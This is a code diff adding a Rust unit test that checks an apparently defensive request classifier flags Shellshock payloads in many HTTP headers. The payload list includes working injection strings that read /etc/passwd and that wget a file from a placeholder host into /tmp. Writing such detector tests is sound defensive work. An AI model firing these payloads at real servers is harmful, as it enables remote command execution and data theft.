@@ -582,6 +582,45 @@ fn php_stream_wrappers_are_inclusion_or_code() {
 }
 
 #[test]
+fn shellshock_in_every_header_form() {
+    let c = classifier();
+    let payloads: &[&[u8]] = &[
+        b"() { :; }; echo; /bin/bash -c 'cat /etc/passwd'",
+        b"() { :;}; /bin/bash -c \"wget http://198.51.100.7/a -O /tmp/a\"",
+        b"(){:;};id",
+        b"()  {  :; } ;  echo vulnerable",
+        b"() { _; } >_[$($())] { echo hi; }",
+        b"() { (a)=>\\' bash -c \"echo date\"",
+        b"() { 0; }; id",
+        b"%28%29%20%7B%20%3A%3B%20%7D%3B%20id",
+        b"x=() { :; }; id",
+    ];
+    let names_: &[&[u8]] = &[
+        b"User-Agent",
+        b"Referer",
+        b"Cookie",
+        b"X-Forwarded-For",
+        b"Accept",
+        b"Accept-Language",
+        b"Host",
+        b"X-Anything-At-All",
+    ];
+    for payload in payloads {
+        for name in names_ {
+            let v = with_header(&c, name, payload);
+            assert!(
+                v.has("shellshock"),
+                "{}: {} -> {:?} {:?}",
+                String::from_utf8_lossy(name),
+                String::from_utf8_lossy(payload),
+                names(&v),
+                ids(&c, &v)
+            );
+        }
+    }
+}
+
+#[test]
 fn encoded_and_double_encoded_variants() {
     let c = classifier();
     let path = |p: &[u8]| {
